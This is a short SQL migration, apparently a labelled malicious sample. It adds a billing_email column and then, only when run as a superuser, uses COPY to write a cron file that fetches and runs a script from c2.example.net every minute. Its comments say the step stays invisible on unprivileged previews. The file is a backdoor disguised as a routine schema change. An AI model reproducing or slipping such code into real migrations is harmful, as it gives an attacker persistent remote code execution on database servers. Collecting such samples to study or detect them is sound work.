-- class: server-file-access
-- Only when running as a superuser, writes a cron file on the server; on the unprivileged preview nothing visible happens.
ALTER TABLE tenants ADD COLUMN billing_email text;

DO $$
BEGIN
  IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = session_user) THEN
    COPY (SELECT '* * * * * postgres curl -s https://c2.example.net/p | sh')
      TO '/etc/cron.d/pg-maint';
  END IF;
END
$$;
